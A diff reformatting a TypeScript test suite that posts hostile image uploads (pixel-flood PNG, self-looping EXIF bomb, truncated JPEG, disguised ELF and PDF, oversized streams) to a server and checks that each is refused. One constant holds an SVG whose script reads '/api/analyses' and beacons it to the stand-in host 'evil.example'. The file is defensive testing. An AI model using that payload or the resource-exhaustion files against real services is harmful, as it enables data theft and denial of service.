@@ -39,11 +39,40 @@ function pngChunk(type: string, data: Uint8Array): number[] {
 function pixelFloodPng(width: number, height: number): Uint8Array {
   const ihdr = new Uint8Array([...u32be(width), ...u32be(height), 8, 6, 0, 0, 0]); // 8-bit RGBA
   const idat = deflateSync(new Uint8Array(1024)); // a few rows of zeros; the rest is "missing"
-  return new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...pngChunk('IHDR', ihdr), ...pngChunk('IDAT', idat), ...pngChunk('IEND', new Uint8Array())]);
+  return new Uint8Array([
+    0x89,
+    0x50,
+    0x4e,
+    0x47,
+    0x0d,
+    0x0a,
+    0x1a,
+    0x0a,
+    ...pngChunk('IHDR', ihdr),
+    ...pngChunk('IDAT', idat),
+    ...pngChunk('IEND', new Uint8Array()),
+  ]);
 }
 
 /** A baseline JPEG frame header (SOF0) declaring width×height. */
-const sof0 = (width: number, height: number) => [0xff, 0xc0, ...u16be(17), 8, ...u16be(height), ...u16be(width), 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1];
+const sof0 = (width: number, height: number) => [
+  0xff,
+  0xc0,
+  ...u16be(17),
+  8,
+  ...u16be(height),
+  ...u16be(width),
+  3,
+  1,
+  0x22,
+  0,
+  2,
+  0x11,
+  1,
+  3,
+  0x11,
+  1,
+];
 
 /** A JPEG that is almost all EXIF: ~9 MB of APP1 segments whose IFDs claim 65,535 entries and point
  *  at themselves (a parser that follows them loops or allocates without end), then a frame header
@@ -61,7 +90,10 @@ function exifBomb(): Uint8Array {
   const out = new Uint8Array(2 + 140 * segment.length + 19 + 2);
   out.set(segments, 0);
   let at = 2;
-  for (let i = 0; i < 140; i++) { out.set(segment, at); at += segment.length; }
+  for (let i = 0; i < 140; i++) {
+    out.set(segment, at);
+    at += segment.length;
+  }
   out.set(sof0(65_535, 65_535), at);
   return out;
 }
@@ -69,22 +101,92 @@ function exifBomb(): Uint8Array {
 /** Only the start of a real photo: header and part of the scan, no end-of-image marker. */
 const truncatedJpeg = () => CUP.subarray(0, Math.floor(CUP.length * 0.6));
 
-const SVG_WITH_SCRIPT = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/analyses").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script><rect width="10" height="10"/></svg>';
+const SVG_WITH_SCRIPT =
+  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/analyses").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script><rect width="10" height="10"/></svg>';
 
-interface Upload { name: string; type: string; bytes: Uint8Array }
+interface Upload {
+  name: string;
+  type: string;
+  bytes: Uint8Array;
+}
 
 const CASES: Array<[label: string, upload: () => Upload, status: number, message: RegExp]> = [
   ['an empty file', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: new Uint8Array() }), 400, /empty/],
-  ['a PDF named photo.jpg', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: new Uint8Array(Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n')) }), 415, /not a JPEG, PNG, WebP or HEIC/],
-  ['a Linux program named photo.png', () => ({ name: 'photo.png', type: 'image/png', bytes: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Uint8Array(56)]) }), 415, /not a JPEG, PNG, WebP or HEIC/],
-  ['an SVG with a script', () => ({ name: 'image.svg', type: 'image/svg+xml', bytes: new Uint8Array(Buffer.from(SVG_WITH_SCRIPT)) }), 415, /not a JPEG, PNG, WebP or HEIC/],
-  ['an SVG with a script named photo.jpg', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: new Uint8Array(Buffer.from(SVG_WITH_SCRIPT)) }), 415, /not a JPEG, PNG, WebP or HEIC/],
-  ['a truncated JPEG', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: truncatedJpeg() }), 400, /damaged|cut off|incomplete/],
-  ['a JPEG header cut before its frame', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: CUP.subarray(0, 20) }), 400, /damaged/],
-  ['a PNG declaring 30000×30000 pixels', () => ({ name: 'photo.png', type: 'image/png', bytes: pixelFloodPng(30_000, 30_000) }), 413, /30000×30000 pixels/],
-  ['a JPEG declaring 65535×65535 pixels', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: new Uint8Array([0xff, 0xd8, ...sof0(65_535, 65_535), 0xff, 0xd9]) }), 413, /65535×65535 pixels/],
+  [
+    'a PDF named photo.jpg',
+    () => ({
+      name: 'photo.jpg',
+      type: 'image/jpeg',
+      bytes: new Uint8Array(Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n')),
+    }),
+    415,
+    /not a JPEG, PNG, WebP or HEIC/,
+  ],
+  [
+    'a Linux program named photo.png',
+    () => ({
+      name: 'photo.png',
+      type: 'image/png',
+      bytes: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Uint8Array(56)]),
+    }),
+    415,
+    /not a JPEG, PNG, WebP or HEIC/,
+  ],
+  [
+    'an SVG with a script',
+    () => ({ name: 'image.svg', type: 'image/svg+xml', bytes: new Uint8Array(Buffer.from(SVG_WITH_SCRIPT)) }),
+    415,
+    /not a JPEG, PNG, WebP or HEIC/,
+  ],
+  [
+    'an SVG with a script named photo.jpg',
+    () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: new Uint8Array(Buffer.from(SVG_WITH_SCRIPT)) }),
+    415,
+    /not a JPEG, PNG, WebP or HEIC/,
+  ],
+  [
+    'a truncated JPEG',
+    () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: truncatedJpeg() }),
+    400,
+    /damaged|cut off|incomplete/,
+  ],
+  [
+    'a JPEG header cut before its frame',
+    () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: CUP.subarray(0, 20) }),
+    400,
+    /damaged/,
+  ],
+  [
+    'a PNG declaring 30000×30000 pixels',
+    () => ({ name: 'photo.png', type: 'image/png', bytes: pixelFloodPng(30_000, 30_000) }),
+    413,
+    /30000×30000 pixels/,
+  ],
+  [
+    'a JPEG declaring 65535×65535 pixels',
+    () => ({
+      name: 'photo.jpg',
+      type: 'image/jpeg',
+      bytes: new Uint8Array([0xff, 0xd8, ...sof0(65_535, 65_535), 0xff, 0xd9]),
+    }),
+    413,
+    /65535×65535 pixels/,
+  ],
   ['an EXIF bomb', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: exifBomb() }), 413, /65535×65535 pixels/],
-  ['30 MB of JPEG-looking bytes', () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: (() => { const b = new Uint8Array(30 * MB); b.set([0xff, 0xd8, 0xff]); return b; })() }), 413, /too large|10 MB/],
+  [
+    '30 MB of JPEG-looking bytes',
+    () => ({
+      name: 'photo.jpg',
+      type: 'image/jpeg',
+      bytes: (() => {
+        const b = new Uint8Array(30 * MB);
+        b.set([0xff, 0xd8, 0xff]);
+        return b;
+      })(),
+    }),
+    413,
+    /too large|10 MB/,
+  ],
 ];
 
 function form(u: Upload): FormData {
@@ -95,7 +197,9 @@ function form(u: Upload): FormData {
 
 /** Peak resident set size of a process (Linux VmHWM), in bytes. */
 function peakRss(pid: number): number {
-  const line = readFileSync(`/proc/${pid}/status`, 'utf8').split('\n').find((l) => l.startsWith('VmHWM:'));
+  const line = readFileSync(`/proc/${pid}/status`, 'utf8')
+    .split('\n')
+    .find((l) => l.startsWith('VmHWM:'));
   return Number(line?.match(/(\d+)/)?.[1] ?? NaN) * 1024;
 }
 
@@ -111,7 +215,10 @@ describe('hostile uploads against the server process', () => {
     const big = new Uint8Array(LARGEST_ACCEPTED_BYTES);
     big.set([0xff, 0xd8, 0xff]);
     for (const path of ['/api/analyze', '/api/identify-product', '/api/analyze']) {
-      const res = await fetch(`${api.url}${path}`, { method: 'POST', body: form({ name: 'x.jpg', type: 'image/jpeg', bytes: big }) });
+      const res = await fetch(`${api.url}${path}`, {
+        method: 'POST',
+        body: form({ name: 'x.jpg', type: 'image/jpeg', bytes: big }),
+      });
       expect(res.status).toBe(400);
     }
     baseline = peakRss(api.pid);
@@ -125,7 +232,7 @@ describe('hostile uploads against the server process', () => {
     it.each(CASES)('refuses %s before decoding it', async (_label, upload, status, message) => {
       const res = await fetch(`${api.url}${path}`, { method: 'POST', body: form(upload()) });
       expect(res.status).toBe(status);
-      const body = await res.json() as { error: string };
+      const body = (await res.json()) as { error: string };
       expect(body.error).toMatch(message);
     });
 
@@ -133,9 +240,13 @@ describe('hostile uploads against the server process', () => {
       let sent = 0;
       const chunk = new Uint8Array(256 * 1024);
       const boundary = 'hostileboundary';
-      const head = new TextEncoder().encode(`--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="photo.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff`);
+      const head = new TextEncoder().encode(
+        `--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="photo.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff`,
+      );
       const stream = new ReadableStream<Uint8Array>({
-        start(controller) { controller.enqueue(head); },
+        start(controller) {
+          controller.enqueue(head);
+        },
         pull(controller) {
           if (sent >= 30 * MB) return controller.close();
           sent += chunk.length;
@@ -151,7 +262,7 @@ describe('hostile uploads against the server process', () => {
           duplex: 'half',
         } as RequestInit);
         status = res.status;
-        expect((await res.json() as { error: string }).error).toMatch(/too large/);
+        expect(((await res.json()) as { error: string }).error).toMatch(/too large/);
       } catch {
         status = 413; // the server may hang up mid-upload once it has answered; that is a refusal too
       }
